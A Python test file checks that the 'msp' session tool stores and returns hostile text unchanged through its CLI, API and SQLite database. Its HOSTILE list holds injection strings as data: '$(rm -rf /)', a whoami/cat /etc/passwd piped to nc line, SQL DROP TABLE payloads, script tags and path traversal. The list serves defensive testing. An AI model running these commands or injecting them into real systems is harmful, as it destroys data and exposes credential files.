"""Guarantee 4: text is kept exactly as typed, and comes back unchanged from ``msp show --json``.

Hostile strings go in through the real ``msp`` binary (every one as an update's text and tag,
and spread over every other text field), and through the Python API into every field at once.
Nothing may be trimmed, normalised, escaped or interpreted on the way.
"""

from __future__ import annotations

import random
import sqlite3
import unicodedata
from pathlib import Path
from typing import Any

from msp._app.screen import for_terminal
from msp._session.manager import SessionManager

HOSTILE = [
    "naïve café — Zürich, Ærøskøbing, İstanbul, straße",
    "emoji 🚀🔥 family 👩‍👩‍👧‍👦 flag 🇳🇱 skin 👍🏽 keycap 1️⃣",
    "RTL: שלום עולם مرحبا بالعالم \u202eevil\u202c done",
    "combining: e\u0301 vs \u00e9, a\u0308, Z\u0351\u0322\u0358a\u0353\u0325l\u0316go",
    "quotes: \"double\" 'single' `back` «guillemets» „low“ ‘curly’",
    "line one\nline two\r\nline three\ttabbed\n\n",
    "$(rm -rf /) and ${HOME} and $HOME and %PATH%",
    "`whoami` && echo pwned || true; cat /etc/passwd | nc x 1 > /dev/null &",
    "'; DROP TABLE x; --",
    "Robert'); DROP TABLE events;-- \" OR 1=1 --",
    "MATCH (n) DETACH DELETE n RETURN n // {props: $params} CALL db.clear()",
    "%s %d {0} {} {{x}} %(name)s \\x00 \\n \\\\ backslashes \\",
    "<script>alert(1)</script> &amp; &lt;b&gt; <!-- -->",
    "  leading and trailing spaces  ",
    "-starts with a dash",
    "--json",
    "../../etc/passwd and C:\\Windows\\System32",
    "zero\u200bwidth\u200djoiner, BOM \ufeff, line sep \u2028 para sep \u2029, NBSP\u00a0end",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 astral 𐍈 and CJK 漢字かなカナ 한국어",
    '{"ok": false, "error": null} [1, 2] null true',
    "*glob* ?[a-z] ~user !history",
    "\\u0041 is not A and \\ud83d is not a surrogate",
]


def _cli_ok(msp_cli: Any, *args: str) -> dict[str, Any]:
    cut = args.index("--") if "--" in args else len(args)
    r = msp_cli(*args[:cut], "--json", *args[cut:])
    assert r.code == 0, (args, r.err)
    data: dict[str, Any] = r.json()
    return data


def test_hostile_text_round_trips_through_the_cli(msp_cli: Any, project_dir: Path) -> None:
    goal = HOSTILE[5]
    sid = _cli_ok(msp_cli, "start", "--goal", goal, "--issue", "ENG-1; rm -rf")["event"]["session_id"]
    # Every string as an update's text (after `--`, so a leading dash is text) and as a tag.
    for text in HOSTILE:
        _cli_ok(msp_cli, "update", "--tag", text, "--", text)
    # Every other field, a few calls each, packed with different strings (and one decision
    # carrying all of them as its alternatives).
    n = len(HOSTILE)

    def pick(k: int) -> str:
        return HOSTILE[k % n]

    decisions, entities, blockers = [], [], []
    for j in range(3):
        alternatives = HOSTILE if j == 0 else [pick(3 * j + 4)]
        _cli_ok(msp_cli, "decide", "--rationale", pick(3 * j + 1), "--category", pick(3 * j + 2),
                *[arg for alt in alternatives for arg in ("--alternative", alt)], "--", pick(3 * j))
        decisions.append((pick(3 * j), pick(3 * j + 1), alternatives, pick(3 * j + 2)))
    for j in range(3):
        name, path, description, type_ = (pick(4 * j + k) for k in range(9, 13))
        _cli_ok(msp_cli, "entity", "--path", path, "--description", description, "--type", type_, "--", name)
        entities.append((name, path, description, type_))
    for j in range(3):
        text, solution = pick(5 * j + 13), pick(5 * j + 14)
        bid = _cli_ok(msp_cli, "block", "--", text)["event"]["data"]["id"]
        blockers.append((bid, text, solution))
    for bid, _text, solution in blockers:
        _cli_ok(msp_cli, "resolve", "--solution", solution, bid)
    summary = HOSTILE[2] + HOSTILE[10]
    _cli_ok(msp_cli, "end", "--summary", summary)

    shown = _cli_ok(msp_cli, "show", sid)["session"]
    assert shown["goal"] == goal
    assert shown["issue"] == "ENG-1; rm -rf"
    assert shown["summary"] == summary
    assert [u["text"] for u in shown["updates"]] == HOSTILE
    assert [u["tags"] for u in shown["updates"]] == [[t] for t in HOSTILE]
    assert [(d["text"], d["rationale"], d["alternatives"], d["category"]) for d in shown["decisions"]] == decisions
    assert [(e["name"], e["path"], e["description"], e["type"]) for e in shown["entities"]] == entities
    assert [(b["id"], b["text"], b["solution"]) for b in shown["blockers"]] == blockers

    # Stored byte for byte, too: the events table holds the same text, and no table was dropped.
    con = sqlite3.connect(project_dir / ".msp" / "msp.db")
    try:
        stored = [r[0] for r in con.execute(
            "SELECT json_extract(data, '$.text') FROM events WHERE type = 'progress_updated' ORDER BY seq")]
        tables = {r[0] for r in con.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
    finally:
        con.close()
    assert stored == HOSTILE
    assert {"events", "sessions", "blockers", "actions"} <= tables

    # The text views print it unchanged too (not trimmed), except that control characters
    # other than newline and tab are shown escaped (a carriage return as \x0d): a terminal
    # shows stored text, it never obeys it (msp._app.screen).
    text_view = msp_cli("show", sid)
    assert text_view.code == 0
    for text in HOSTILE:
        assert for_terminal(text.rstrip("\n")) in text_view.out
    assert "\r" not in text_view.out and "line two\\x0d\nline three" in text_view.out


def _random_text(rng: random.Random, length: int) -> str:
    """Random code points from every plane that text can hold (no surrogates)."""
    ranges = [(0x20, 0x7E), (0x09, 0x0D), (0xA0, 0x2FF), (0x300, 0x36F), (0x590, 0x6FF), (0x2000, 0x206F),
              (0x3000, 0x30FF), (0x4E00, 0x4F00), (0xFE00, 0xFFFD), (0x1F300, 0x1FAFF), (0x10000, 0x1034F),
              (0xE0000, 0xE007F), (0x10FFF0, 0x10FFFF)]
    out = []
    for _ in range(length):
        lo, hi = rng.choice(ranges)
        out.append(chr(rng.randint(lo, hi)))
    text = "".join(out)
    return text if text.strip() else text + "x"


def test_random_text_in_every_field_round_trips_through_api_and_cli(
    manager: SessionManager, msp_cli: Any
) -> None:
    """Seeded random text in every field at once, stored through the API and read back by the
    real ``msp show --json``. (NUL is refused at input: tests/test_hostile_text.py.)"""
    rng = random.Random(2)
    samples = [_random_text(rng, rng.randint(1, 300)) for _ in range(40)]
    labels = [s[:200] for s in samples]
    items = list(samples)
    sid = manager.start({"goal": samples[0], "issue": labels[1]}).event.session_id
    for i, text in enumerate(items):
        other = items[-1 - i]
        manager.update({"text": text, "tags": [labels[i]]})
        manager.decide({"text": text, "rationale": other, "alternatives": [other, text], "category": labels[i]})
        manager.entity({"name": text, "path": other, "description": text, "type": labels[i]})
        bid = manager.block({"text": text}).event.data["id"]
        manager.resolve({"blocker": bid, "solution": other})
    # Not normalised: a decomposed form stays decomposed.
    assert manager.update({"text": "e\u0301"}).event.data["text"] == "e\u0301"
    samples.append("e\u0301")
    labels.append("e\u0301")
    manager.end({"summary": samples[3]})

    shown = _cli_ok(msp_cli, "show", sid)["session"]
    assert shown["goal"] == samples[0] and shown["issue"] == labels[1] and shown["summary"] == samples[3]
    assert [u["text"] for u in shown["updates"]] == samples
    assert [u["tags"] for u in shown["updates"]][:-1] == [[label] for label in labels[:-1]]
    pairs = list(zip(items, items[::-1], strict=True))
    assert [(d["text"], d["rationale"], d["alternatives"]) for d in shown["decisions"]] == [
        (t, o, [o, t]) for t, o in pairs
    ]
    assert [(e["name"], e["path"], e["description"]) for e in shown["entities"]] == [(t, o, t) for t, o in pairs]
    assert [(b["text"], b["solution"]) for b in shown["blockers"]] == pairs
    assert shown["updates"][-1]["text"] == unicodedata.normalize("NFD", "\u00e9")


def test_context_keeps_text_too(manager: SessionManager, msp_cli: Any) -> None:
    manager.start({"goal": HOSTILE[8]})
    manager.decide({"text": HOSTILE[6], "rationale": HOSTILE[1], "alternatives": [HOSTILE[9]]})
    manager.update({"text": HOSTILE[3], "progress": 40})
    manager.block({"text": HOSTILE[10]})
    ctx = _cli_ok(msp_cli, "context", "--format", "json")["context"]
    assert ctx["decisions"][0]["text"] == HOSTILE[6]
    assert ctx["decisions"][0]["rationale"] == HOSTILE[1]
    assert ctx["decisions"][0]["alternatives"] == [HOSTILE[9]]
    assert ctx["where_we_stopped"]["last_updates"][-1]["text"] == HOSTILE[3]
    assert [b["text"] for b in ctx["open_blockers"]] == [HOSTILE[10]]
    assert ctx["sessions"][0]["goal"] == HOSTILE[8]
